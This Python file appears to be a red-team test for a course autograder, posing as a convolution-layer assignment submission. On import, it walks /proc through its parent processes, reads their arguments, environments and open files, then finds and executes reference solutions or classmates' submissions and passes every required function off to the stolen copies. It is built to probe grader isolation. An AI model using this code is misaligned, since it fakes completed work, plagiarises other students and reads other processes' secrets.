"""Red team: full marks with no work, by following the grader's own processes to the course files.

What it tries: walks `/proc/<pid>/status` up from itself (zygote, worker, the
`autograder grade` CLI, the instructor's shell) and collects every path each
ancestor reveals: `cmdline` (the submissions and `--out` folders, the
interpreter), `cwd`, `root`, `exe`, `environ` (PWD, VIRTUAL_ENV, HOME),
`/proc/<pid>/fd/*` links.  Around each path it looks for a course checkout
(`examples/conv_layers/correct.py`, `reference/`, `solutions/`) or a class
(`*/conv_layers/*.py` of classmates) and delegates every function to the first
copy found.  Also greps what it reads for the runner's sentinels.

Attack worked if: any points (sound grader: 0; `/proc` shows no other process
and nothing outside the allow-list is readable), or "RT-BREACH"/a sentinel in
its feedback.
Targets: conv_layers.
"""
# redteam-assignment: conv_layers
# redteam-expect: points<=0

import glob as _glob
import importlib.util as _ilu
import json as _json
import os as _os
import re as _re
import sys as _sys

_WANTED = ("zero_pad", "conv_output_size", "conv_param_count", "conv_forward_naive", "conv_backward_naive",
           "max_pool_forward_naive", "max_pool_backward_naive", "conv_forward_im2col", "conv_backward_im2col")
# The reference engine's names for the same ops.
_REFERENCE_NAMES = {"conv_forward_naive": "conv_forward", "conv_backward_naive": "conv_backward",
                    "max_pool_forward_naive": "max_pool_forward", "max_pool_backward_naive": "max_pool_backward",
                    "conv_forward_im2col": "conv_forward", "conv_backward_im2col": "conv_backward",
                    "conv_output_size": "output_size", "zero_pad": "zero_pad", "conv_param_count": "conv_param_count"}
_STOLEN = {}
_FOUND = []   # what to tell ourselves through the feedback
_SENTINEL = _re.compile(r"RT-SENTINEL-[A-Z]+-[0-9a-f]{12}")


def _note(text):
    if text not in _FOUND:
        _FOUND.append(text)


def _grep_sentinels(data):
    if isinstance(data, bytes):
        data = data.decode("latin-1")
    for match in _SENTINEL.findall(data):
        _note(match)


def _code_of(path):
    with open(path, "rb") as handle:
        data = handle.read(5_000_000)
    _grep_sentinels(data)
    text = data.decode("utf-8", "replace")
    if "_STOLEN = {}" in text or "redteam-assignment" in text:
        raise ValueError("a red-team file, not a solution")
    if path.endswith(".ipynb"):
        cells = _json.loads(text)["cells"]
        text = "\n".join("".join(cell["source"]) for cell in cells if cell.get("cell_type") == "code")
        text = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith(("%", "!")))
    return text


def _take_from(path):
    """Run a found file in a fresh namespace; keep the functions we lack. True if it gave us something."""
    if _os.path.basename(path) == "__init__.py":  # a package: load it under another name, past the blocker
        name = "copy_%d" % (len(_STOLEN) + len(_FOUND))
        spec = _ilu.spec_from_file_location(name, path, submodule_search_locations=[_os.path.dirname(path)])
        module = _ilu.module_from_spec(spec)
        _sys.modules[name] = module
        spec.loader.exec_module(module)
        namespace = vars(module)
    else:
        namespace = {"__name__": "stolen"}
        exec(compile(_code_of(path), "stolen", "exec"), namespace)
    gained = False
    for wanted in _WANTED:
        if wanted in _STOLEN:
            continue
        for name in (wanted, _REFERENCE_NAMES.get(wanted)):
            if name and callable(namespace.get(name)):
                _STOLEN[wanted] = namespace[name]
                gained = True
                break
    if gained:
        _note("RT-" + "BREACH stole from " + path)
    return gained


def _try_paths(paths):
    for path in paths:
        if all(name in _STOLEN for name in _WANTED[:7]):
            return
        try:
            if _os.path.isfile(path):
                _take_from(path)
        except BaseException as error:  # keep trying the next place
            _note(f"{_os.path.basename(path)}:{type(error).__name__}")


def _files_under(root):
    """The course files a repository checkout holds, best first."""
    patterns = ["examples/conv_layers/correct.py", "examples/fast_conv/correct.py", "reference/__init__.py",
                "solutions/*.ipynb", "solutions/*/*.ipynb", "build/example-class/submissions/*/*/*.py",
                "build/example-class/submissions/*/*/*.ipynb", "examples/*/*.py", "tests/*/*.py",
                "*/reference/__init__.py", "build/lib/reference/__init__.py"]
    found = []
    for pattern in patterns:
        found += sorted(_glob.glob(_os.path.join(root, pattern)))
    return [path for path in found if "stub" not in path and "buggy" not in path and "hostile" not in path]


def _use(name, *args, **kwargs):
    if name not in _STOLEN:
        raise NotImplementedError(f"{name}: nothing found to copy ({'; '.join(_FOUND)[:150]})")
    return _STOLEN[name](*args, **kwargs)

def _ancestors():
    """This process's parents up to pid 1 (the zygote, the grading worker, the CLI, the shell...)."""
    pids, pid = [], _os.getpid()
    for _ in range(20):
        try:
            status = open(f"/proc/{pid}/status").read()
            pid = int(_re.search(r"PPid:\s*(\d+)", status).group(1))
        except (OSError, AttributeError, ValueError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


def _paths_of_process(pid):
    """Every path a process reveals: its arguments, folder, environment, open files, mappings."""
    paths = []
    try:
        paths += [arg for arg in open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0") if arg]
    except OSError as error:
        _note(f"cmdline:{error.errno}")
    for link in ("cwd", "root", "exe"):
        try:
            paths.append(_os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
    try:
        environ = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        _grep_sentinels(environ)
        paths += [item.partition("=")[2] for item in environ.split("\0") if "=/" in item]
    except OSError:
        pass
    try:
        for fd in _os.listdir(f"/proc/{pid}/fd"):
            try:
                paths.append(_os.readlink(f"/proc/{pid}/fd/{fd}"))
            except OSError:
                pass
    except OSError:
        pass
    return paths


def _roots_near(path):
    """Folders around *path* that look like a course checkout or a class of submissions."""
    roots = []
    path = _os.path.abspath(path)
    for _ in range(6):
        if _os.path.isdir(path):
            roots.append(path)
        parent = _os.path.dirname(path)
        if parent == path:
            break
        path = parent
    return roots


_candidates = []
for _pid in _ancestors():
    for _path in _paths_of_process(_pid):
        for _root in _roots_near(_path):
            _candidates += _files_under(_root)
            _candidates += sorted(_glob.glob(_os.path.join(_root, "*", "conv_layers", "*.py")))
            _candidates += sorted(_glob.glob(_os.path.join(_root, "*", "conv_layers", "*.ipynb")))
_seen = set()
_try_paths([path for path in _candidates if not (path in _seen or _seen.add(path))])

def zero_pad(x, pad):
    return _use("zero_pad", x, pad)


def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    return _use("conv_output_size", in_size, filter_size, stride, pad, dilation)


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    return _use("conv_param_count", in_channels, num_filters, filter_size, bias)


def conv_forward_naive(x, w, b, conv_param):
    return _use("conv_forward_naive", x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    return _use("conv_backward_naive", dout, cache)


def max_pool_forward_naive(x, pool_param):
    return _use("max_pool_forward_naive", x, pool_param)


def max_pool_backward_naive(dout, cache):
    return _use("max_pool_backward_naive", dout, cache)


if _FOUND:
    raise RuntimeError(" ; ".join(_FOUND)[:190])
